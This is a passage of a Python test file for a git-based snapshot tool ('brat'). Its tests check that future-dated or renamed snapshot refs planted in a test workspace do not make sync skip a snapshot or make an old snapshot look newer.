    made = brat_json("snapshot", "create", cwd=world.victim)["snapshot"]
    soon = now_ms() + 1_800_000
    for n in range(36):
        git(world.victim, "update-ref", f"{SNAPSHOT_PREFIX}{soon + n * 1000}", made["commit_oid"])
    for _ in range(2):
        assert brat_json("sync", cwd=world.victim)["snapshot_created"] is None


def test_a_new_name_for_a_trusted_snapshot_does_not_make_it_newer(world):
    from brat_sessions.storage.snapshot import latest_on_chain
    from brat_sessions.workspace import Workspace

    made = brat_json("snapshot", "create", cwd=world.victim)["snapshot"]
    git(world.victim, "update-ref", f"{SNAPSHOT_PREFIX}{now_ms() + 3_000_000}", made["commit_oid"])
    ws = Workspace(world.victim)
    assert latest_on_chain(ws.wal, ws.wal.head()).created_ts == made["created_ts"]
